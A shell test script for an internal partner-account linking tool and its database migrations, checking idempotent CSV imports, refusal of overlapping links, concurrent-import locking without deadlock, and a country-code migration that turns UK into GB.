before=$(links_dump)
links_now=$(links_state)
t "import-links run again: every row unchanged, exit 0" 0 "linked 0 partner accounts from $TMP/links.csv.gz, 2 unchanged" \
	"" "$PBA" import-links "$TMP/links.csv.gz" --by ops
check "and nothing written" "$before|$links_now" "$(links_dump)|$(links_state)"
printf 'alias,vendor,partner_account_id,from,to\nIL1,aws,300000000041,2026-10-01,\nil1,aws,300000000001,2026-10-01,\n' \
	>"$TMP/again.csv"
t "half stored, half new: the new row linked, the other unchanged" 0 \
	"linked 1 partner account from $TMP/again.csv, 1 unchanged" "" "$PBA" import-links "$TMP/again.csv"
before=$(links_dump)
links_now=$(links_state)
# again_fails NAME STATUS WANT_ERR ROWS [OPTION...]: a file of ROWS is refused with STATUS and WANT_ERR (its lines),
# nothing written.
again_fails() {
	printf 'alias,vendor,partner_account_id,from,to\n%b' "$4" >"$TMP/again-bad.csv"
	"$PBA" import-links "$TMP/again-bad.csv" "${@:5}" >"$TMP/out" 2>"$TMP/err"
	check "$1" "$2||$3|$before|$links_now" "$?|$(cat "$TMP/out")|$(cat "$TMP/err")|$(links_dump)|$(links_state)"
}
again_fails "another end: refused as overlapping the stored link, as before" 4 \
	"pb-accounts: $TMP/again-bad.csv:3:9: aws partner account 300000000041 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time" \
	'IL1,aws,300000000001,2026-10-01,\nIL1,aws,300000000041,2026-10-01,2026-12-31\n'
again_fails "another account: refused" 4 \
	"pb-accounts: $TMP/again-bad.csv:2:9: aws partner account 300000000041 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time" \
	'IL2,aws,300000000041,2026-10-01,\n'
again_fails "a stored link twice in the file: the second refused" 4 \
	"pb-accounts: $TMP/again-bad.csv:3:9: aws partner account 300000000041 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time" \
	'IL1,aws,300000000041,2026-10-01,\nIL1,aws,300000000041,2026-10-01,\n'
again_fails "--max-errors: the rows that differ and the bad ones named, not the unchanged" 1 \
	"pb-accounts: $TMP/again-bad.csv:3:9: aws partner account 300000000001 is linked to IL1 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time
pb-accounts: $TMP/again-bad.csv:4:9: bad aws partner account id '3000': a 12-digit AWS account id" \
	'IL1,aws,300000000041,2026-10-01,\nIL2,aws,300000000001,2026-11-01,\nIL1,aws,3000,2026-10-01,\n' --max-errors 10
# A link stored, then ended (unlink) and the partner account moved: the file's row is not that link any more, and
# running it again neither undoes the move nor passes over it: refused, naming the ended link.
"$PBA" unlink IL1 --vendor aws --partner-account 300000000041 --to 2026-10-31 >/dev/null &&
	"$PBA" link IL2 --vendor aws --partner-account 300000000041 --from 2026-11-01 >/dev/null ||
	notok "end and move the link of 300000000041"
before=$(links_dump)
links_now=$(links_state)
again_fails "a link ended and moved since: refused as overlapping it" 4 \
	"pb-accounts: $TMP/again-bad.csv:2:9: aws partner account 300000000041 is linked to IL1 from 2026-10-01 to 2026-10-31 already: a partner account maps to one CLC account at a time" \
	'IL1,aws,300000000041,2026-10-01,\n'
# A link is not checked again: one of an account no longer eligible (IL3 has no terms) is unchanged as it is.
pb_sql "INSERT INTO pb.partner_account (vendor, partner_account_id, alias, valid_from, valid_to, created_by)
	VALUES ('aws', '300000000042', 'IL3', '2026-10-01', '2026-10-31', 'test')" >/dev/null
printf 'alias,vendor,partner_account_id,from,to\nIL3,aws,300000000042,2026-10-01,2026-10-31\n' >"$TMP/again.csv"
t "a link of an account not eligible now: unchanged, not refused" 0 \
	"linked 0 partner accounts from $TMP/again.csv, 1 unchanged" "" "$PBA" import-links "$TMP/again.csv"
# The same new file run twice at once: the first pauses after its checks, the second stores the links; the first
# then meets them in the way, finds them its rows, and succeeds unchanged.
printf 'alias,vendor,partner_account_id,from,to\nIL1,aws,300000000043,2026-10-01,\nIL2,aws,300000000044,2026-10-01,2026-10-31\n' \
	>"$TMP/twice.csv"
rm -f "$TMP/resume"
PB_TEST_PAUSE=link-checked PB_TEST_RESUME_FILE=$TMP/resume "$PBA" import-links "$TMP/twice.csv" >"$TMP/twice-1.out" \
	2>"$TMP/twice-1.err" &
twice=$!
pb_until 120 grep -qs "test pause" "$TMP/twice-1.err" || notok "the first import-links pauses at link-checked"
"$PBA" import-links "$TMP/twice.csv" >"$TMP/twice-2.out" 2>&1
twice_st=$?
touch "$TMP/resume"
wait $twice
twice1_st=$?
check "the same file twice at once: the second stores the links, the first finds them unchanged" \
	"0|linked 2 partner accounts from $TMP/twice.csv|0|linked 0 partner accounts from $TMP/twice.csv, 2 unchanged||2" \
	"$twice_st|$(cat "$TMP/twice-2.out")|$twice1_st|$(cat "$TMP/twice-1.out")|$(grep -v 'test pause' "$TMP/twice-1.err")|$(
		pb_sql "SELECT count(*) FROM pb.partner_account WHERE partner_account_id IN ('300000000043', '300000000044')")"

# Two imports of the same partner accounts in opposite orders at once: the second waits for the first and is
# refused (exit 4) naming the link the first stored, never a deadlock (exit 3). A session's uncommitted link of
# 600000000003 holds the first import between its rows, while the second starts.
# lock_waiters N: waits (120 s at most: a loaded machine) until N sessions wait for a lock while inserting links;
# one failure if they do not.
lock_waiters() {
	pb_until 120 lock_waiting "$1" ||
		notok "$1 import-links wait for a lock" "$(pb_sql "SELECT pid, state, wait_event_type, query FROM pg_stat_activity")"
}
lock_waiting() {
	[ "$(pb_sql "SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock'
		AND query LIKE 'INSERT INTO pb.partner_account%'")" -ge "$1" ]
}
printf 'alias,vendor,partner_account_id,from\nBK101,aws,600000000001,2026-10-01\nBK102,aws,600000000003,2026-10-01
BK103,aws,600000000002,2026-10-01\n' >"$TMP/race-a.csv"
printf 'alias,vendor,partner_account_id,from\nBK104,aws,600000000002,2026-10-01\nBK105,aws,600000000001,2026-10-01\n' \
	>"$TMP/race-b.csv"
pb_sql_session_start
pb_sql_in "BEGIN; INSERT INTO pb.partner_account (vendor, partner_account_id, alias, valid_from, created_by)
	VALUES ('aws', '600000000003', 'BK100', '2026-10-01', 'test')"
"$PBA" import-links "$TMP/race-a.csv" >"$TMP/race-a.out" 2>&1 &
race_a=$!
lock_waiters 1
"$PBA" import-links "$TMP/race-b.csv" >"$TMP/race-b.out" 2>&1 &
race_b=$!
lock_waiters 2
pb_sql_in "ROLLBACK"
wait $race_a
race_a_st=$?
wait $race_b
race_b_st=$?
check "two imports of the same partner accounts in opposite orders: the second refused, no deadlock" \
	"0|linked 3 partner accounts from $TMP/race-a.csv|4|pb-accounts: $TMP/race-b.csv:2:11: aws partner account 600000000002 is linked to BK103 from 2026-10-01 (open-ended) already: a partner account maps to one CLC account at a time" \
	"$race_a_st|$(cat "$TMP/race-a.out")|$race_b_st|$(cat "$TMP/race-b.out")"
# An import killed (kill -9) while its statement waits: the server notices the client is gone within seconds and
# ends the statement, releasing what it holds, instead of going on with it once the wait ends.
pb_sql_in "BEGIN; INSERT INTO pb.partner_account (vendor, partner_account_id, alias, valid_from, created_by)
	VALUES ('aws', '600000000004', 'BK100', '2026-10-01', 'test')"
printf 'alias,vendor,partner_account_id,from\nBK101,aws,600000000004,2026-10-01\n' >"$TMP/killed.csv"
"$PBA" import-links "$TMP/killed.csv" >/dev/null 2>&1 &
killed=$!
lock_waiters 1
{ kill -9 $killed && wait $killed; } 2>/dev/null
pb_until 120 pb_sql_is 0 "SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'INSERT INTO pb.partner_account%'
	AND state = 'active'"
check "an import killed while its statement waits: the statement ends within seconds" "0" \
	"$(pb_sql "SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'INSERT INTO pb.partner_account%' AND state = 'active'")"
pb_sql_in "ROLLBACK"

# ---- migration 005 on a database that has rows to check, applied after 006 -------------------------------

# A second database in the cluster plays one migrated before 005 existed: every migration but 005 applied
# (006 was numbered and applied first), with rows 005 must check.
pb_sql "CREATE DATABASE migtest" >/dev/null
MIGDB="host=$PB_VAR_DIR/pg/run port=5432 user=pb dbname=migtest"
PB_DATABASE_URL=$MIGDB "$PBDB" migrate >/dev/null 2>&1 || notok "migrate the second database"
mig_sql() { PB_DATABASE_URL=$MIGDB pb_sql "$@"; }
mig_sql "DROP TABLE pb.link_proposal;
	ALTER TABLE pb.clc_account DROP CONSTRAINT clc_account_country_iso3166, DROP CONSTRAINT clc_account_invoice_currency,
		DROP CONSTRAINT clc_account_markup_percent;
	ALTER TABLE pb.terms_acceptance DROP CONSTRAINT terms_acceptance_region_iso3166;
	DROP FUNCTION pb.iso3166_alpha2(text);
	DROP FUNCTION pb.iso4217_currency(text);
	DELETE FROM pb.schema_migrations WHERE version = 5;
	INSERT INTO pb.clc_account (alias, name, billing_country, created_by) VALUES
		('UK1', 'Britain Ltd', 'UK', 'old'), ('ZZ1', 'Nowhere', 'ZZ', 'old'), ('GB0', 'Already GB', 'GB', 'old');
	INSERT INTO pb.terms_acceptance (alias, terms, region, version, accepted_by) VALUES
		('UK1', 'azure', 'UK', '1', 'old'), ('UK1', 'centurylink', NULL, '1', 'old')" >/dev/null
PB_DATABASE_URL=$MIGDB "$PBA" list >"$TMP/out" 2>"$TMP/err"
check "a database without 005 is refused by name, though it is at version 6" \
	"3|pb-accounts: the database schema lacks migration 005_accounts_review.sql: run 'pb-db migrate'" "$?|$(cat "$TMP/err")"
PB_DATABASE_URL=$MIGDB "$PBDB" migrate >"$TMP/out" 2>"$TMP/err"
check "005 stops at a country it cannot correct, naming the row, and changes nothing" \
	"3|pb-db: migration 005_accounts_review.sql failed: database: ERROR:  codes that are not ISO 3166-1 countries: account ZZ1 billing_country ZZ; correct them with pb-db psql, then run pb-db migrate again|UK1|UK|UK" \
	"$?|$(sed 's/ CONTEXT: .*//' "$TMP/err")|$(mig_sql "SELECT string_agg(alias, ',') FROM pb.clc_account WHERE billing_country = 'UK'")|$(
		mig_sql "SELECT billing_country FROM pb.clc_account WHERE alias = 'UK1'")|$(mig_sql "SELECT region FROM pb.terms_acceptance WHERE terms = 'azure'")"
mig_sql "UPDATE pb.clc_account SET billing_country = 'FR' WHERE alias = 'ZZ1'" >/dev/null
PB_DATABASE_URL=$MIGDB "$PBDB" migrate >"$TMP/out" 2>"$TMP/err"
NV=$(find "$ROOT/schemas" -name '[0-9][0-9][0-9]_*.sql' | sed 's|.*/0*\([0-9][0-9]*\)_[^/]*$|\1|' | sort -n | tail -n 1)
check "once corrected, 005 applies after the later ones" "0|applied 005_accounts_review.sql
schema at version $NV|" "$?|$(cat "$TMP/out")|$(cat "$TMP/err")"
check "UK became GB, in the account (recorded as the migration's change) and in its terms" \
	"GB|migration 005_accounts_review (UK is GB in ISO 3166-1)|t|GB" \
	"$(mig_sql "SELECT billing_country, updated_by, updated_at IS NOT NULL FROM pb.clc_account WHERE alias = 'UK1'" '|')|$(
		mig_sql "SELECT region FROM pb.terms_acceptance WHERE terms = 'azure'")"
t "and the programs take the database again" 0 "alias,name,billing_country,is_reseller,parent_reseller,invoice_currency,markup_percent
GB0,Already GB,GB,false,,USD,0
UK1,Britain Ltd,GB,false,,USD,0
ZZ1,Nowhere,FR,false,,USD,0" "" env PB_DATABASE_URL="$MIGDB" "$PBA" list

pb_tests_done
